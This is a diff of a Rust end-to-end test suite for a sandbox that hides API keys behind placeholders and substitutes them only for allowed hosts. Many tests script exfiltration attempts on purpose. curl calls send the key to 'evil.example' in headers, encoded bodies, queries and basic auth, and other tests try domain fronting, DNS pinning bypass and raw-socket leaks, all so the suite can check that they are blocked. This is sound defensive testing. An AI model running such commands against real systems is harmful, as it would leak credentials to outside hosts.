@@ -1,47 +1,639 @@
-//! End-to-end: secrets through the boundary, with real clients in the sandbox and a recording
-//! upstream in the fake internet. Each test asserts both what the client saw and what the
-//! destination actually received.
+//! End-to-end: secrets through the boundary, with real clients in the sandbox (curl, python
+//! urllib and raw sockets, node fetch) and a recording upstream in the fake internet. Each
+//! test asserts what the client saw *and* what the destination actually received.
 
 mod support;
 
+use std::io::Write;
 use support::*;
 
 const VALUE: &str = "sk-real-7f3a9c";
 const PH: &str = "$MSB_OPENAI_API_KEY";
+const ENV: &[(&str, &str)] = &[("OPENAI_API_KEY", VALUE)];
 
-fn secret_args<'a>(ca: &'a str, extra: &[&'a str]) -> Vec<&'a str> {
+/// `--upstream-ca` for the fixture's CA plus `extra`.
+fn args(net: &FakeInternet, extra: &[&str]) -> Vec<String> {
     let mut v = vec![
-        "--upstream-ca",
-        ca,
-        "--secret",
-        "OPENAI_API_KEY@api.openai.com",
+        "--upstream-ca".to_owned(),
+        net.ca_file().display().to_string(),
     ];
-    v.extend_from_slice(extra);
+    v.extend(extra.iter().map(|s| s.to_string()));
     v
 }
 
+fn run(net: &FakeInternet, extra: &[&str], script: &str) -> std::process::Output {
+    let a = args(net, extra);
+    let a: Vec<&str> = a.iter().map(String::as_str).collect();
+    net.run_sh_env(&a, ENV, script)
+}
+
+/// A config file (kept alive by the returned handle).
+fn config(text: &str) -> tempfile::NamedTempFile {
+    let mut f = tempfile::NamedTempFile::new().unwrap();
+    f.write_all(text.as_bytes()).unwrap();
+    f
+}
+
+fn report(o: &std::process::Output, net: &FakeInternet) -> String {
+    format!(
+        "status {:?}\n--- stdout\n{}\n--- stderr\n{}\n--- received\n{}",
+        o.status.code(),
+        stdout(o),
+        stderr(o),
+        net.received()
+    )
+}
+
+/// Send a last request to `url` and wait until its destination logged it, so every byte an
+/// earlier (blocked) request could have delivered is in the log before we look.
+const SENTINEL: &str = "curl -s -m 5 -o /dev/null https://evil.example/sentinel-zz; curl -s -m 5 -o /dev/null http://evil.example/sentinel-zz;";
+
+fn sentinel(net: &FakeInternet) {
+    assert!(net.wait_received("/sentinel-zz"), "sentinel never arrived");
+}
+
+const ONE: &str = "OPENAI_API_KEY@api.openai.com";
+
 #[test]
-fn substitutes_in_a_header_for_the_allowed_host() {
+fn the_sandbox_sees_only_the_placeholder() {
     if !is_root() {
         return;
     }
     let net = FakeInternet::with_http(&[80], &[443]);
-    let ca = net.ca_file().display().to_string();
-    let o = net.run_sh_env(
-        &secret_args(&ca, &[]),
-        &[("OPENAI_API_KEY", VALUE)],
-        r#"echo "env=$OPENAI_API_KEY"; curl -sS -m 5 -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models"#,
+    let o = run(
+        &net,
+        &["--secret", ONE],
+        &format!(
+            r#"echo "env=$OPENAI_API_KEY"; \
+            printf '%s%s\n' '{}' '{}' > /dev/shm/needle; \
+            grep -ralF -f /dev/shm/needle /proc/[0-9]*/environ /proc/[0-9]*/cmdline /etc /tmp /workspace 2>/dev/null | grep . && echo LEAK; \
+            echo checked"#,
+            &VALUE[..4],
+            &VALUE[4..]
+        ),
     );
     let out = stdout(&o);
-    eprintln!("OUT: {out}\nERR: {}\nRECV: {}", stderr(&o), net.received());
-    assert!(out.contains(&format!("env={PH}")), "{out}\n{}", stderr(&o));
+    assert!(out.contains(&format!("env={PH}")), "{}", report(&o, &net));
+    assert!(out.contains("checked"), "{}", report(&o, &net));
+    assert!(!out.contains("LEAK"), "{}", report(&o, &net));
+    assert!(!out.contains(VALUE), "{}", report(&o, &net));
+}
+
+#[test]
+fn substitutes_in_headers_and_basic_auth_for_the_allowed_host() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(
+        &net,
+        &["--secret", ONE],
+        r#"curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" -H "X-Api-Key: k=$OPENAI_API_KEY" https://api.openai.com/v1/models; \
+           curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -u "user:$OPENAI_API_KEY" https://api.openai.com/basic"#,
+    );
+    assert_eq!(stdout(&o), "200\n200\n", "{}", report(&o, &net));
+    let got = net.received_at(UPSTREAM_V4);
     assert!(
-        out.contains(&format!("Bearer {VALUE}")),
-        "{out}\n{}",
-        stderr(&o)
+        got.contains(&format!("Authorization: Bearer {VALUE}\r\n")),
+        "{got}"
+    );
+    assert!(got.contains(&format!("X-Api-Key: k={VALUE}\r\n")), "{got}");
+    let basic = base64_encode(format!("user:{VALUE}").as_bytes());
+    assert!(
+        got.contains(&format!("Authorization: Basic {basic}\r\n")),
+        "{got}"
+    );
+    assert!(!got.contains(PH), "{got}");
+}
+
+#[test]
+fn python_and_node_clients_get_substitution_with_the_sandbox_ca_trusted_by_default() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let node = std::path::Path::new("/usr/bin/node").exists();
+    let script = format!(
+        r#"python3 -c 'import os, urllib.request as u; r = u.Request("https://api.openai.com/py", headers={{"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}}); print(u.urlopen(r, timeout=5).status)'; \
+        {}"#,
+        if node {
+            r#"node -e 'fetch("https://api.openai.com/node", {headers: {authorization: "Bearer " + process.env.OPENAI_API_KEY}}).then(r => console.log(r.status), e => console.log("node error", e.cause || e))'"#
+        } else {
+            "echo 200"
+        }
+    );
+    let o = run(&net, &["--secret", ONE], &script);
+    assert_eq!(stdout(&o), "200\n200\n", "{}", report(&o, &net));
+    let got = net.received_at(UPSTREAM_V4);
+    assert!(got.contains("GET /py "), "{got}");
+    assert_eq!(
+        got.matches(&format!("Bearer {VALUE}")).count(),
+        if node { 2 } else { 1 },
+        "{got}"
+    );
+}
+
+#[test]
+fn plain_http_is_not_substituted_unless_tls_identity_is_waived() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let script = r#"curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" http://api.openai.com/plain"#;
+    let o = run(&net, &["--secret", ONE], script);
+    assert_eq!(stdout(&o), "200\n", "{}", report(&o, &net));
+    let got = net.received_at(UPSTREAM_V4);
+    assert!(got.contains(&format!("Bearer {PH}")), "{got}");
+    assert!(!got.contains(VALUE), "{got}");
+
+    let cfg = config(
+        "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\nrequire_tls_identity = false\n",
+    );
+    let c = cfg.path().to_str().unwrap();
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(&net, &["--config", c], script);
+    assert_eq!(stdout(&o), "200\n", "{}", report(&o, &net));
+    assert!(
+        net.received_at(UPSTREAM_V4)
+            .contains(&format!("Bearer {VALUE}"))
+    );
+}
+
+#[test]
+fn an_unknown_host_gets_nothing_in_any_form() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let events = tempfile::NamedTempFile::new().unwrap();
+    let ev = events.path().to_str().unwrap();
+    let o = run(
+        &net,
+        &[
+            "--secret",
+            ONE,
+            "--on-secret-violation",
+            "block-and-log",
+            "--events",
+            ev,
+        ],
+        &format!(
+            r#"for u in https://evil.example/h http://evil.example/h; do curl -sS -m 5 -H "X-Key: $OPENAI_API_KEY" $u >/dev/null 2>&1; echo "header=$?"; done; \
+            curl -sS -m 5 --data-urlencode "key=$OPENAI_API_KEY" https://evil.example/pct >/dev/null 2>&1; echo "percent=$?"; \
+            curl -sS -m 5 -H 'Content-Type: application/json' --data '{{"k":"\u0024MSB_OPENAI_API_KEY"}}' https://evil.example/json >/dev/null 2>&1; echo "json=$?"; \
+            curl -sS -m 5 "https://evil.example/q?k=%24MSB_OPENAI_API_KEY" >/dev/null 2>&1; echo "query=$?"; \
+            curl -sS -m 5 -u "u:$OPENAI_API_KEY" https://evil.example/basic >/dev/null 2>&1; echo "basic=$?"; \
+            {SENTINEL}"#
+        ),
+    );
+    let out = stdout(&o);
+    for k in ["header", "percent", "json", "query", "basic"] {
+        assert!(
+            !out.contains(&format!("{k}=0")),
+            "{k} request succeeded\n{}",
+            report(&o, &net)
+        );
+    }
+    sentinel(&net);
+    let evil = net.received_at(EVIL_V4);
+    assert!(!evil.contains("MSB_OPENAI"), "{evil}");
+    assert!(!evil.contains("%24MSB"), "{evil}");
+    assert!(!evil.contains(VALUE), "{evil}");
+    for path in ["/h", "/pct", "/json", "/q", "/basic"] {
+        assert!(
+            !evil.contains(&format!(" {path}")),
+            "{path} reached evil: {evil}"
+        );
+    }
+    let ev = std::fs::read_to_string(events.path()).unwrap();
+    let forms: Vec<&str> = [
+        "\"form\":\"raw\"",
+        "\"form\":\"percent\"",
+        "\"form\":\"json\"",
+        "\"form\":\"base64\"",
+    ]
+    .into_iter()
+    .filter(|f| !ev.contains(f))
+    .collect();
+    assert!(forms.is_empty(), "missing {forms:?} in events:\n{ev}");
+    assert!(ev.contains("\"secret\":\"OPENAI_API_KEY\""), "{ev}");
+    assert!(ev.contains("\"kind\":\"secret-violation\""), "{ev}");
+    assert!(!ev.contains(VALUE), "{ev}");
+    assert!(
+        stderr(&o).contains("secret violation"),
+        "{}",
+        report(&o, &net)
+    );
+}
+
+#[test]
+fn plain_block_is_silent_and_resets_the_client() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let events = tempfile::NamedTempFile::new().unwrap();
+    let ev = events.path().to_str().unwrap();
+    let o = run(
+        &net,
+        &["--secret", ONE, "--events", ev],
+        r#"curl -sS -m 5 -H "X-Key: $OPENAI_API_KEY" https://evil.example/h; echo "rc=$?""#,
+    );
+    // curl: 56 = "Recv failure: Connection reset by peer" (35 if during the handshake).
+    let err = stderr(&o);
+    assert!(stdout(&o).contains("rc=56"), "{}", report(&o, &net));
+    assert!(err.contains("reset"), "{}", report(&o, &net));
+    assert!(!err.contains("secret violation"), "{err}");
+    let ev = std::fs::read_to_string(events.path()).unwrap();
+    assert!(!ev.contains("secret-violation"), "{ev}");
+}
+
+#[test]
+fn domain_fronting_is_blocked() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(
+        &net,
+        &["--secret", ONE],
+        &format!(
+            r#"curl -sS -m 5 -H "Host: evil.example" -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/front >/dev/null 2>&1; echo "fronted=$?"; \
+            curl -sS -m 5 -H "Host: evil.example" https://api.openai.com/front2 >/dev/null 2>&1; echo "fronted-clean=$?"; \
+            {SENTINEL}"#
+        ),
+    );
+    let out = stdout(&o);
+    assert!(!out.contains("fronted=0"), "{}", report(&o, &net));
+    assert!(!out.contains("fronted-clean=0"), "{}", report(&o, &net));
+    sentinel(&net);
+    let got = net.received();
+    assert!(!got.contains("/front"), "{got}");
+    assert!(!got.contains(VALUE), "{got}");
+}
+
+#[test]
+fn a_hard_coded_address_with_a_valid_certificate_for_the_allowed_name_gets_no_substitution() {
+    if !is_root() {
+        return;
+    }
+    // evil's server presents a certificate valid for api.openai.com (the fixture's leaf
+    // covers every test name), so only the DNS pin tells them apart.
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(
+        &net,
+        &["--secret", ONE],
+        &format!(
+            r#"getent hosts api.openai.com >/dev/null; \
+            curl -sS -m 5 --resolve api.openai.com:443:{EVIL_V4} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/pinned >/dev/null 2>&1; echo "rc=$?"; \
+            {SENTINEL}"#
+        ),
+    );
+    assert!(!stdout(&o).contains("rc=0"), "{}", report(&o, &net));
+    sentinel(&net);
+    let evil = net.received_at(EVIL_V4);
+    assert!(!evil.contains("/pinned"), "{evil}");
+    assert!(!evil.contains(VALUE), "{evil}");
+}
+
+#[test]
+fn split_writes_and_pipelined_requests() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let py = r#"
+import os, socket, ssl, time
+ph = os.environ["OPENAI_API_KEY"].encode()
+ctx = ssl.create_default_context()
+def conn():
+    return ctx.wrap_socket(socket.create_connection(("api.openai.com", 443), timeout=5), server_hostname="api.openai.com")
+def read_all(s):
+    out = b""
+    try:
+        while True:
+            c = s.recv(65536)
+            if not c:
+                break
+            out += c
+    except OSError as e:
+        out += b"<" + type(e).__name__.encode() + b">"
+    return out
+# 1. The placeholder split across two TLS records (and TCP segments).
+s = conn()
+req = b"GET /split HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer " + ph + b"\r\nConnection: close\r\n\r\n"
+cut = req.index(ph) + 5
+s.sendall(req[:cut]); time.sleep(0.2); s.sendall(req[cut:])
+print("split", b"200 OK" in read_all(s))
+# 2. Two pipelined requests in one write: the second names another Host.
+s = conn()
+a = b"GET /first HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer " + ph + b"\r\n\r\n"
+b = b"GET /second HTTP/1.1\r\nHost: evil.example\r\nX-Key: " + ph + b"\r\n\r\n"
+s.sendall(a + b)
+r = read_all(s)
+print("pipelined", r.count(b"200 OK"), r.count(b"HTTP/1.1"))
+"#;
+    let o = run(
+        &net,
+        &["--secret", ONE],
+        &format!("python3 -c '{}'", py.replace('\'', "'\\''")),
+    );
+    let out = stdout(&o);
+    assert!(out.contains("split True"), "{}", report(&o, &net));
+    // The first response arrives, the second request is refused and the connection ends.
+    assert!(out.contains("pipelined 1 1"), "{}", report(&o, &net));
+    let got = net.received();
+    assert!(got.contains("/split"), "{got}");
+    assert_eq!(got.matches(&format!("Bearer {VALUE}")).count(), 2, "{got}");
+    assert!(!got.contains("/second"), "{got}");
+    assert!(!got.contains(PH), "{got}");
+}
+
+#[test]
+fn bodies_fixed_and_chunked_are_substituted_when_enabled_and_encoded_ones_blocked() {
+    if !is_root() {
+        return;
+    }
+    let cfg = config(
+        "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\ninject = { body = true, query_params = true }\n",
+    );
+    let c = cfg.path().to_str().unwrap();
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(
+        &net,
+        &["--config", c],
+        &format!(
+            r#"curl -sS -m 5 -o /dev/null -w '%{{http_code}}\n' --data "fixed=$OPENAI_API_KEY&again=$OPENAI_API_KEY" https://api.openai.com/fixed; \
+            printf 'chunk=%s' "$OPENAI_API_KEY" | curl -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H 'Transfer-Encoding: chunked' --data-binary @- https://api.openai.com/chunked; \
+            curl -sS -m 5 -o /dev/null -w '%{{http_code}}\n' "https://api.openai.com/query?key=%24MSB_OPENAI_API_KEY&raw=$OPENAI_API_KEY"; \
+            printf '%s' "$OPENAI_API_KEY" | gzip | curl -sS -m 5 -o /dev/null -H 'Content-Encoding: gzip' --data-binary @- https://api.openai.com/gz-clean; echo "gz-clean=$?"; \
+            curl -sS -m 5 -o /dev/null -H 'Content-Encoding: gzip' --data-binary "$OPENAI_API_KEY" https://api.openai.com/gz; echo "gz=$?"; \
+            {SENTINEL}"#
+        ),
+    );
+    let out = stdout(&o);
+    assert!(out.starts_with("200\n200\n200\n"), "{}", report(&o, &net));
+    // A gzip body whose compressed bytes do not show the placeholder goes through unchanged;
+    // one that shows it cannot be rewritten and is blocked.
+    assert!(out.contains("gz-clean=0"), "{}", report(&o, &net));
+    assert!(!out.contains("gz=0"), "{}", report(&o, &net));
+    sentinel(&net);
+    let got = net.received_at(UPSTREAM_V4);
+    let body = format!("fixed={VALUE}&again={VALUE}");
+    assert!(
+        got.contains(&format!("Content-Length: {}\r\n", body.len())),
+        "{got}"
+    );
+    assert!(got.contains(&format!("\r\n\r\n{body}")), "{got}");
+    assert!(got.contains(&format!("chunk={VALUE}")), "{got}");
+    assert!(
+        got.contains(&format!("/query?key={VALUE}&raw={VALUE} ")),
+        "{got}"
+    );
+    assert!(!got.contains(" /gz "), "{got}");
+    assert!(!got.contains(PH), "{got}");
+}
+
+#[test]
+fn injection_scopes_can_be_turned_off() {
+    if !is_root() {
+        return;
+    }
+    let cfg = config(
+        "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\ninject = { headers = false, basic_auth = false }\n",
+    );
+    let c = cfg.path().to_str().unwrap();
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(
+        &net,
+        &["--config", c],
+        r#"curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" -u "u:$OPENAI_API_KEY" https://api.openai.com/off; \
+           curl -sS -m 5 -o /dev/null -w '%{http_code}\n' --data "b=$OPENAI_API_KEY" "https://api.openai.com/off2?k=$OPENAI_API_KEY""#,
+    );
+    assert_eq!(stdout(&o), "200\n200\n", "{}", report(&o, &net));
+    let got = net.received_at(UPSTREAM_V4);
+    // The allowed host receives the placeholder, unchanged, and never the value.
+    assert!(!got.contains(VALUE), "{got}");
+    assert!(got.contains(&format!("b={PH}")), "{got}");
+}
+
+#[test]
+fn host_patterns_custom_placeholders_and_any_host() {
+    if !is_root() {
+        return;
+    }
+    let cfg = config(
+        r#"
+[[secret]]
+env = "OPENAI_API_KEY"
+placeholder = "{{openai}}"
+allow_hosts = ["*.openai.com"]
+
+[[secret]]
+env = "ANY_KEY"
+value_env = "OPENAI_API_KEY"
+placeholder = "ANY-PLACEHOLDER"
+allow_any_host_dangerous = true
+"#,
+    );
+    let c = cfg.path().to_str().unwrap();
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(
+        &net,
+        &["--config", c],
+        r#"echo "ph=$OPENAI_API_KEY any=$ANY_KEY"; \
+           curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "X-A: $OPENAI_API_KEY" https://api.openai.com/pattern; \
+           curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "X-B: $ANY_KEY" https://evil.example/any"#,
+    );
+    let out = stdout(&o);
+    assert!(
+        out.starts_with("ph={{openai}} any=ANY-PLACEHOLDER\n200\n200\n"),
+        "{}",
+        report(&o, &net)
     );
     assert!(
         net.received_at(UPSTREAM_V4)
-            .contains(&format!("Authorization: Bearer {VALUE}"))
+            .contains(&format!("X-A: {VALUE}"))
     );
+    assert!(net.received_at(EVIL_V4).contains(&format!("X-B: {VALUE}")));
+}
+
+#[test]
+fn passthrough_hosts_receive_the_placeholder_never_the_value() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(
+        &net,
+        &["--secret", ONE, "--secret-passthrough", "traces.example"],
+        &format!(
+            r#"curl -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H "Authorization: Bearer $OPENAI_API_KEY" --data "trace: key=$OPENAI_API_KEY" https://traces.example/v1/traces; \
+            curl -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/x >/dev/null 2>&1; echo "evil=$?"; {SENTINEL}"#
+        ),
+    );
+    let out = stdout(&o);
+    assert!(out.starts_with("200\n"), "{}", report(&o, &net));
+    assert!(!out.contains("evil=0"), "{}", report(&o, &net));
+    sentinel(&net);
+    let traces = net.received_at(TRACES_V4);
+    assert!(
+        traces.contains(&format!("Authorization: Bearer {PH}")),
+        "{traces}"
+    );
+    assert!(traces.contains(&format!("trace: key={PH}")), "{traces}");
+    assert!(!net.received().contains(VALUE), "{}", net.received());
+    assert!(!net.received_at(EVIL_V4).contains(" /x "));
+}
+
+#[test]
+fn per_secret_policy_overrides_the_sandbox_wide_one() {
+    if !is_root() {
+        return;
+    }
+    // Sandbox-wide: passthrough for every host (dangerous flag). The secret's own base
+    // action (block) wins over it for non-matching hosts; its own passthrough host works.
+    let cfg = config(
+        r#"
+[secrets]
+passthrough_all_hosts_dangerous = true
+
+[[secret]]
+env = "OPENAI_API_KEY"
+allow_hosts = ["api.openai.com"]
+on_violation = "block"
+passthrough = ["traces.example"]
+
+[[secret]]
+env = "OTHER_KEY"
+value_env = "OPENAI_API_KEY"
+placeholder = "OTHER-PH"
+allow_hosts = ["api.openai.com"]
+"#,
+    );
+    let c = cfg.path().to_str().unwrap();
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let o = run(
+        &net,
+        &["--config", c],
+        &format!(
+            r#"curl -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/own >/dev/null 2>&1; echo "own=$?"; \
+            curl -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H "X: $OPENAI_API_KEY" https://traces.example/own-pass; \
+            curl -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H "X: $OTHER_KEY" https://evil.example/global-pass; {SENTINEL}"#
+        ),
+    );
+    let out = stdout(&o);
+    assert!(!out.contains("own=0"), "{}", report(&o, &net));
+    assert!(out.contains("200\n200\n"), "{}", report(&o, &net));
+    sentinel(&net);
+    assert!(!net.received_at(EVIL_V4).contains("/own "));
+    assert!(net.received_at(EVIL_V4).contains("X: OTHER-PH"));
+    assert!(net.received_at(TRACES_V4).contains(&format!("X: {PH}")));
+    assert!(!net.received().contains(VALUE));
+}
+
+#[test]
+fn block_and_terminate_kills_the_whole_sandbox() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let events = tempfile::NamedTempFile::new().unwrap();
+    let ev = events.path().to_str().unwrap();
+    let marker = format!("{}", 3000 + std::process::id() % 1000);
+    let o = run(
+        &net,
+        &[
+            "--secret",
+            ONE,
+            "--on-secret-violation",
+            "block-and-terminate",
+            "--events",
+            ev,
+        ],
+        &format!(
+            r#"sleep {marker}7 & \
+            curl -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/exfil >/dev/null 2>&1; \
+            echo survived; curl -sS -m 5 https://api.openai.com/after-terminate; sleep 30"#
+        ),
+    );
+    assert_eq!(o.status.code(), Some(99), "{}", report(&o, &net));
+    assert!(!stdout(&o).contains("survived"), "{}", report(&o, &net));
+    assert!(stderr(&o).contains("terminated"), "{}", report(&o, &net));
+    let ps = std::process::Command::new("pgrep")
+        .args(["-f", &format!("sleep {marker}7")])
+        .output()
+        .unwrap();
+    assert!(ps.stdout.is_empty(), "background process survived");
+    let got = net.received();
+    assert!(!got.contains("/exfil"), "{got}");
+    assert!(!got.contains("/after-terminate"), "{got}");
+    let ev = std::fs::read_to_string(events.path()).unwrap();
+    assert!(ev.contains("\"action\":\"block-and-terminate\""), "{ev}");
+    assert!(ev.contains("\"kind\":\"sandbox-terminated\""), "{ev}");
+}
+
+#[test]
+fn secrets_on_non_http_streams_are_scanned() {
+    if !is_root() {
+        return;
+    }
+    // A raw TCP protocol (not HTTP) to a plain port and TLS plaintext that is not HTTP:
+    // placeholders in them are violations; other bytes flow.
+    let net = FakeInternet::with_http(&[80, 2222], &[443]);
+    let py = r#"
+import os, socket, ssl
+ph = os.environ["OPENAI_API_KEY"].encode()
+def attempt(s, data):
+    try:
+        s.sendall(data)
+        s.settimeout(3)
+        return s.recv(100)
+    except OSError as e:
+        return type(e).__name__
+s = socket.create_connection(("evil.example", 2222), timeout=5)
+print("raw", attempt(s, b"HELLO " + ph + b"\n"))
+ctx = ssl.create_default_context()
+s = ctx.wrap_socket(socket.create_connection(("evil.example", 443), timeout=5), server_hostname="evil.example")
+print("tls", attempt(s, b"\x00\x01binary " + ph))
+"#;
+    let o = run(
+        &net,
+        &["--secret", ONE],
+        &format!("python3 -c '{}'; {SENTINEL}", py.replace('\'', "'\\''")),
+    );
+    let out = stdout(&o);
+    // The boundary resets both; Python reports a reset, or an empty read for TLS (its
+    // `suppress_ragged_eofs` default turns an abrupt end into b"").
+    assert!(
+        out.contains("raw ConnectionResetError"),
+        "{}",
+        report(&o, &net)
+    );
+    assert!(
+        ["tls ConnectionResetError", "tls b''", "tls SSL"]
+            .iter()
+            .any(|t| out.contains(t)),
+        "{}",
+        report(&o, &net)
+    );
+    sentinel(&net);
+    assert!(!net.received().contains("MSB_"), "{}", net.received());
+}
+
+fn base64_encode(data: &[u8]) -> String {
+    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for c in data.chunks(3) {
+        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for i in 0..4 {
+            if i <= c.len() {
+                out.push(T[((n >> (18 - 6 * i)) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
 }
